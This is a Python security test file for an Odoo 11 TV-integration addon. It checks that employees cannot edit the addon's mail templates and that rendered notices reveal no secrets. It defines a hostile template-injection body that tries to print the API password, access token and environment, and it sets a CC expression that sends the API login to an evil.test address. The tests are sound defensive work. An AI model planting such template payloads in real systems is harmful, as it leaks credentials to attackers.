# -*- coding: utf-8 -*-
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Mail templates as a way in: Odoo 11 lets every employee edit any mail
template, and the notices are rendered by the system. The addon's templates
are edited by TV managers and Settings only, and a notice is rendered with
the figures handed in, never with records or the system's rights."""
from odoo.exceptions import AccessError

from .test_side_doors import SideDoorCase

TEMPLATE = "oletv_integration.mail_template_tv_access_instructions"
HOSTILE = ("<p>${object.login}|${object.integration_id.api_password}|"
           "${object.integration_id.access_token}|${user and user.login}|"
           "${object.env}|${ctx.get('uid')}|${object._values}</p>")


class TestTemplateSideDoors(SideDoorCase):

    def resend(self):
        self.rpc(self.users_a["operator"], "tv.user", "action_tv_resend_access_instructions",
                 self.tv_user.ids)
        return self.env["mail.mail"].search([("model", "=", "account.analytic.account"),
                                             ("res_id", "=", self.contract.id)],
                                            order="id desc", limit=1)

    def test_only_tv_managers_and_settings_edit_the_addon_templates(self):
        template = self.env.ref(TEMPLATE)
        for role in ("clerk", "salesperson", "employee", "operator", "viewer"):
            user = self.users_a[role]
            with self.assertRaises(AccessError), self.env.cr.savepoint():
                self.rpc(user, "mail.template", "write", template.ids, {"body_html": HOSTILE})
            with self.assertRaises(AccessError), self.env.cr.savepoint():
                self.rpc(user, "mail.template", "unlink", template.ids)
        template.invalidate_cache()
        self.assertNotIn("api_password", template.body_html)
        self.rpc(self.users_a["manager"], "mail.template", "write", template.ids,
                 {"subject": "Acesso à TV"})
        self.assertEqual(template.subject, "Acesso à TV")

    def test_a_template_reaches_only_the_figures_handed_in(self):
        # edited where Odoo leaves a way (a translation, an administrator)
        self.env.ref(TEMPLATE).write({"body_html": HOSTILE,
                                      "email_cc": "${object.integration_id.api_login}@evil.test"})
        mail = self.resend()
        secrets = self.integration.sudo()
        body = mail.body_html
        self.assertIn(self.tv_user.login, body)
        for secret in (secrets.api_password, secrets.access_token, secrets.api_login,
                       self.env.user.login, "Environment", "res.users"):
            self.assertNotIn(secret, body)
        self.assertNotIn(secrets.api_login, mail.email_cc or "")

    def test_the_shipped_templates_still_render_their_figures(self):
        mail = self.resend()
        self.assertIn(self.tv_user.login, mail.body_html)
        self.assertIn(self.contract.partner_id.name, mail.body_html)
        self.assertIn(self.env.user.company_id.name, mail.subject)
        self.assertEqual(mail.recipient_ids, self.contract.partner_id)
